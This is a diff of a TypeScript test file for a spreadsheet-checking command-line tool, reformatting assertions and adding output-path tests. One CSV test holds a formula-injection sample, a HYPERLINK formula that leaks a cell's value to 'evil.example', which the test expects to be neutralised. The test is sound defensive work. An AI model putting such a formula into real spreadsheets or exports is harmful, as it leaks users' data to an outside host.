@@ -23,8 +23,15 @@ const echoRule: Rule = {
   },
   check(ctx) {
     return ctx.workbook.sheets
-      .filter((s) => typeof s.rows[0]?.[0]?.value === "string" && s.rows[0][0]!.value !== "機関名")
-      .map((s) => ({ messageId: "echo", data: { text: String(s.rows[0][0]!.value) }, sheet: s.name, cell: "A1", expected: -5, actual: 7.25 }));
+      .filter((s) => typeof s.rows[0]?.[0]?.value === "string" && s.rows[0][0].value !== "機関名")
+      .map((s) => ({
+        messageId: "echo",
+        data: { text: String(s.rows[0][0]!.value) },
+        sheet: s.name,
+        cell: "A1",
+        expected: -5,
+        actual: 7.25,
+      }));
   },
 };
 
@@ -141,7 +148,14 @@ describe("--out findings.xlsx", () => {
       const ws = wb.getWorksheet(name)!;
       expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
       expect(ws.autoFilter).toBeDefined();
-      expect(ws.pageSetup).toMatchObject({ paperSize: 9, orientation: "landscape", fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: "1:1" });
+      expect(ws.pageSetup).toMatchObject({
+        paperSize: 9,
+        orientation: "landscape",
+        fitToPage: true,
+        fitToWidth: 1,
+        fitToHeight: 0,
+        printTitlesRow: "1:1",
+      });
     }
     const ws = wb.getWorksheet("指摘一覧")!;
     expect(ws.autoFilter).toBe(`A1:L${ws.rowCount}`);
@@ -158,7 +172,11 @@ describe("CSV", () => {
   test("--format csv: UTF-8 with BOM, CRLF, every field quoted, formula-like text neutralised, numbers kept", async () => {
     const r = await run(["check", ...all(), "--format", "csv"], { deps });
     expect(r.code).toBe(1);
-    expect(r.stdout.startsWith("\uFEFF\"ファイル\",\"シート\",\"セル\",\"重要度\",\"ルール\",\"ルールID\",\"メッセージ\",\"記入値\",\"計算値\",\"状態\",\"関連セル\",\"確認の理由\"\r\n")).toBe(true);
+    expect(
+      r.stdout.startsWith(
+        '\uFEFF"ファイル","シート","セル","重要度","ルール","ルールID","メッセージ","記入値","計算値","状態","関連セル","確認の理由"\r\n',
+      ),
+    ).toBe(true);
     const lines = r.stdout.slice(1).split("\r\n");
     expect(lines[1]).toBe(
       `"'@evil.xlsx","'=1+2","A1","エラー","テスト用: A1 をそのまま","test/echo","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","7.25","-5","未確認","",`,
@@ -193,7 +211,9 @@ describe("CSV", () => {
   });
 
   test("toCsv quotes commas, quotes and line breaks inside a field", () => {
-    expect(toCsv([["a,b", 'say "x"', "two\nlines", 3, undefined]])).toBe('\uFEFF"a,b","say ""x""","two\nlines","3",\r\n');
+    expect(toCsv([["a,b", 'say "x"', "two\nlines", 3, undefined]])).toBe(
+      '\uFEFF"a,b","say ""x""","two\nlines","3",\r\n',
+    );
   });
 });
 
@@ -230,12 +250,29 @@ describe("never an input", () => {
 
   test("a findings file that cannot be written: exit 1 and one line saying why, no temporary file left", async () => {
     const parent = path.join(dir, "blocked");
-    const out = path.join(parent, "findings.xlsx");
-    await fs.mkdir(out, { recursive: true }); // a folder where the file should go
+    await fs.mkdir(parent, { recursive: true });
+    const file = path.join(parent, "report");
+    await fs.writeFile(file, "a file where a folder should be");
+    const out = path.join(file, "findings.xlsx");
     const r = await run(["check", inputs.clean, "--out", out], { deps });
     expect(r.code).toBe(1);
     expect(r.stderr).toMatch(/指摘一覧を書き込めません: .*findings\.xlsx/);
-    expect(await fs.readdir(parent)).toEqual(["findings.xlsx"]);
-    expect((await fs.stat(out)).isDirectory()).toBe(true);
+    expect(
+      r.stderr
+        .trimEnd()
+        .split("\n")
+        .filter((l) => l.includes("指摘一覧を書き込めません")),
+    ).toHaveLength(1);
+    expect(await fs.readdir(parent)).toEqual(["report"]);
+  });
+
+  test("a folder at --out is refused before checking: exit 2, one line, the folder left as it was", async () => {
+    const out = path.join(dir, "taken", "findings.xlsx");
+    await fs.mkdir(out, { recursive: true });
+    const r = await run(["check", inputs.clean, "--out", out], { deps });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toBe(`kensa: ${out}: フォルダであり、通常のファイルではないため書き込みません\n`);
+    expect(r.stdout).toBe("");
+    expect(await fs.readdir(out)).toEqual([]);
   });
 });
